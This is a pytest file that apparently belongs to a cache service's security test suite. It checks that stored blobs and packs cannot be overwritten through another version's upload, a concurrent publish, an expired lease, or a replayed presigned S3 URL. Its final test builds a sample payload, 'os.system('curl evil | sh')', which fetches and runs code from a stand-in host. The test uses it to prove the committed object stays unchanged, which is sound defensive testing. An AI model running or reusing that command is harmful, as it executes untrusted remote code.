"""Issue 15, item 8: a stored blob's or pack's bytes never change, whoever holds a write token.

    the attack of the issue: a pending version names another key's blob and PUTs re-encoded bytes
        -> test_a_put_for_a_blob_stored_before_the_version_is_409_and_restores_still_work
           (local, S3 presigned, S3 with CACHESVC_S3_PRESIGN=false; SQLite and PostgreSQL)
    two publishes told to upload one blob: the second PUT is checked and writes nothing
        -> test_a_blob_stored_by_a_concurrent_publish_is_answered_already_stored
    a PUT only for a version that names the blob, within its lease
        -> test_a_put_for_a_version_that_does_not_name_the_blob_or_whose_lease_ran_out_is_refused
    packs: a recorded pack gets no presigned target and is never written again
        -> test_a_recorded_pack_is_never_overwritten
"""
from __future__ import annotations

import datetime as dt
import hashlib
import time

import pytest
import requests
import zstandard
from sqlalchemy import update

from cachesvc.content import blobs
from cachesvc.lifecycle import collect
from cachesvc.models import Blob, Version
from cachesvc.storage import blob_key, pack_key
from cachesvc_client import CacheClient
from tests.helpers import ENV, key, publish_body, put_blob, sha, zstd_target
from tests.helpers.packs import FILES, build_pack, publish_packed

pytestmark = pytest.mark.backends  # each storage path x each database's lock

VICTIM = {"graphs/victim.py": b"def forward(x):\n    return x * 2\n" * 4000}
VICTIM_DIGEST = sha(VICTIM["graphs/victim.py"])


@pytest.fixture(params=["local", pytest.param("s3", marks=pytest.mark.s3),
                        pytest.param("s3-no-presign", marks=pytest.mark.s3)])
def storage_settings(request):
    """Local, S3 with presigned URLs, and S3 with every byte through the service."""
    if request.param == "s3-no-presign":
        return {**request.getfixturevalue("s3_storage_settings"), "S3_PRESIGN": False}
    return request.getfixturevalue(f"{request.param}_storage_settings")


def create(client, files, k=None) -> dict:
    resp = client.post("/api/v1/versions", json=publish_body(files, k))
    assert resp.status_code in (200, 201), resp.json
    return resp.json


def upload_zstd(client, answer, files, level=3) -> dict:
    """PUT each blob of ``answer`` as zstd; the target of the last one."""
    by_digest = {sha(d): d for d in files.values()}
    for n, item in enumerate(answer["upload"]):
        body = zstandard.ZstdCompressor(level=level).compress(by_digest[item["sha256"]])
        target = zstd_target(client, answer, body, n)
        resp = put_blob(client, target, body)
        assert resp.status_code in (200, 201), getattr(resp, "text", resp)
    return target


def commit(client, answer, encoding="zstd"):
    return client.post(f"/api/v1/versions/{answer['version']['id']}/commit",
                       json={"uploaded": [{"sha256": i["sha256"], "encoding": encoding} for i in answer["upload"]]})


def stored_state(app, storage, digest):
    """(the stored object's bytes, its row's stored_size, encoding and stored_sha256)."""
    with app.extensions["cachesvc"].db.session() as s:
        blob = s.get(Blob, digest)
        row = (blob.stored_size, blob.encoding, blob.stored_sha256)
    with storage.open(blob_key(digest, row[1])) as body:
        return body.read(), row


def test_a_put_for_a_blob_stored_before_the_version_is_409_and_restores_still_work(client, app, storage, live_server,
                                                                                   tokens, tmp_path):
    victim = create(client, VICTIM, key(name="victim"))
    upload_zstd(client, victim, VICTIM)
    assert commit(client, victim).json["status"] == "committed"
    before = stored_state(app, storage, VICTIM_DIGEST)
    time.sleep(blobs.RACE_SLACK.total_seconds() + 0.1)  # the victim's blob is then stored "before" the attack

    attack = create(client, {**VICTIM, "mine.py": b"mine"}, key(name="attacker"))
    assert [i["sha256"] for i in attack["upload"]] == [sha(b"mine")]  # no target, presigned or not, for the victim
    reencoded = zstandard.ZstdCompressor(level=19).compress(VICTIM["graphs/victim.py"])
    assert len(reencoded) != before[1][0]  # other bytes for the same content: the row would go stale
    for query in (f"?encoding=zstd&version={attack['version']['id']}", "?encoding=zstd", "?encoding=identity"):
        body = reencoded if "zstd" in query else VICTIM["graphs/victim.py"]
        resp = client.put(f"/api/v1/blobs/{VICTIM_DIGEST}{query}", data=body)
        assert resp.status_code == 409 and resp.json["error"]["code"] == "conflict", resp.json
        assert "never overwritten" in resp.json["error"]["message"]
    assert stored_state(app, storage, VICTIM_DIGEST) == before
    assert storage.stat(blob_key(VICTIM_DIGEST, "identity")) is None

    fleet = CacheClient(live_server.url, tokens["read"], cache_dir=str(tmp_path / "fleet"), timeout=30)
    report = fleet.restore("victim", key()["shape"], env=ENV, strict=True)
    assert report.hit and report.files == 1 and not report.failed, report
    assert (tmp_path / "fleet/graphs/victim.py").read_bytes() == VICTIM["graphs/victim.py"]


def test_a_blob_stored_by_a_concurrent_publish_is_answered_already_stored(client, app, storage):
    if storage.upload_target("probe", 60, 1) is not None:
        pytest.skip("presigned uploads land in each version's incoming folder, checked and moved at commit "
                    "(test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed)")
    files = {"shared.so": bytes(range(256)) * 900}
    first, second = create(client, files), create(client, dict(files, other=b"o"), key(name="second"))
    assert {i["sha256"] for i in second["upload"]} >= {sha(files["shared.so"])}  # both were told to upload it
    upload_zstd(client, first, files, level=3)
    before = stored_state(app, storage, sha(files["shared.so"]))
    target = next(i for i in second["upload"] if i["sha256"] == sha(files["shared.so"]))["targets"]["zstd"]
    resp = put_blob(client, target, zstandard.ZstdCompressor(level=19).compress(files["shared.so"]))
    assert resp.status_code == 200 and resp.json["status"] == "already_stored", resp.json
    assert stored_state(app, storage, sha(files["shared.so"])) == before  # checked, nothing written
    bad = client.put(target["url"], data=zstandard.ZstdCompressor().compress(b"not the blob"))
    assert bad.status_code == 400 and stored_state(app, storage, sha(files["shared.so"])) == before
    assert commit(client, first).json["status"] == "committed"
    upload_zstd(client, {**second, "upload": [i for i in second["upload"] if i["sha256"] == sha(b"o")]}, {"other": b"o"})
    assert commit(client, second).json["status"] == "committed"


def test_a_put_for_a_version_that_does_not_name_the_blob_or_whose_lease_ran_out_is_refused(client, app, storage):
    one, two = create(client, {"a": b"a" * 100}), create(client, {"b": b"b" * 100}, key(name="two"))
    wrong = client.put(f"/api/v1/blobs/{sha(b'a' * 100)}?version={two['version']['id']}", data=b"a" * 100)
    assert wrong.status_code == 400 and f"pending version {two['version']['id']}" in wrong.json["error"]["message"]
    with app.extensions["cachesvc"].db.session() as s:
        s.execute(update(Version).where(Version.id == one["version"]["id"])
                  .values(lease_expires_at=dt.datetime(2000, 1, 1)))
    late = client.put(f"/api/v1/blobs/{sha(b'a' * 100)}?version={one['version']['id']}", data=b"a" * 100)
    assert late.status_code == 409 and "lease" in late.json["error"]["message"]
    assert storage.stat(blob_key(sha(b"a" * 100), "identity")) is None


def test_a_recorded_pack_is_never_overwritten(client, app, storage):
    resp, data, members = publish_packed(client, FILES)
    assert resp.status_code == 200, resp.json
    with storage.open(pack_key(sha(data))) as body:
        before = body.read()

    attacker = create(client, {**FILES, "new": b"n"}, key(name="attacker"))
    vid = attacker["version"]["id"]
    direct = client.put(f"/api/v1/packs/{sha(data)}?version={vid}", data=data)  # no target asked for
    assert direct.status_code == 409 and direct.json["error"]["code"] == "conflict", direct.json
    targets = client.post(f"/api/v1/versions/{vid}/packs", json={"packs": [{"sha256": sha(data), "size": len(data)}]})
    target = targets.json["targets"][0]["target"]
    assert target["url"] == f"/api/v1/packs/{sha(data)}?version={vid}"  # the service's URL, never a presigned PUT
    garbage = client.put(target["url"], data=b"\0" * len(data))
    assert garbage.status_code == 400
    same = client.put(target["url"], data=data)
    assert same.status_code == 200 and same.json["status"] == "already_stored", same.json
    with storage.open(pack_key(sha(data))) as body:
        assert hashlib.sha256(body.read()).digest() == hashlib.sha256(before).digest()
    if storage.upload_target("probe", 60, 1) is not None:  # S3 presigned: a pack not recorded still gets a URL
        fresh, _ = build_pack({"n": b"n"}, zstd=())
        other = client.post(f"/api/v1/versions/{vid}/packs", json={"packs": [{"sha256": sha(fresh),
                                                                             "size": len(fresh)}]})
        assert other.json["targets"][0]["target"]["url"].startswith("http")
        assert requests.put(other.json["targets"][0]["target"]["url"], data=fresh, timeout=30).status_code == 200


@pytest.mark.s3
@pytest.mark.parametrize("storage_settings", ["s3"], indirect=True)
def test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed(client, app, storage, live_server,
                                                                                tokens, tmp_path):
    """A presigned PUT URL stays valid for PRESIGN_EXPIRES after its version commits. It names the
    version's incoming folder, never the blob's key: commit checked the upload there and moved it into
    place, so replaying the URL with other bytes (of its signed length) writes only an incoming object,
    which the next GC deletes (issue 37: at once, not once the upload lease is over)."""
    victim = create(client, VICTIM, key(name="victim"))
    url = upload_zstd(client, victim, VICTIM)["url"]
    assert url.startswith("http") and "/v1/incoming/" in url
    assert commit(client, victim).json["status"] == "committed"
    before = stored_state(app, storage, VICTIM_DIGEST)
    assert not list(storage.iter_keys("v1/incoming/")), "commit moved the upload into place"

    evil = zstandard.ZstdCompressor().compress(b"import os; os.system('curl evil | sh')\n")
    evil += b"\0" * (before[1][0] - len(evil))  # the URL takes its signed length only
    assert requests.put(url, data=evil + b"\0", timeout=30).status_code == 403
    assert requests.put(url, data=evil, timeout=30).status_code == 200  # the URL still works ...
    assert stored_state(app, storage, VICTIM_DIGEST) == before  # ... but not on the committed object

    fleet = CacheClient(live_server.url, tokens["read"], cache_dir=str(tmp_path / "fleet"), timeout=30)
    report = fleet.restore("victim", key()["shape"], env=ENV, strict=True)
    assert report.hit and not report.failed, report
    assert (tmp_path / "fleet/graphs/victim.py").read_bytes() == VICTIM["graphs/victim.py"]

    svc = app.extensions["cachesvc"]
    assert collect.gc(svc.db, svc.storage, svc.settings)["incoming_deleted"] == 1  # no commit will take it
    assert not list(storage.iter_keys("v1/incoming/"))
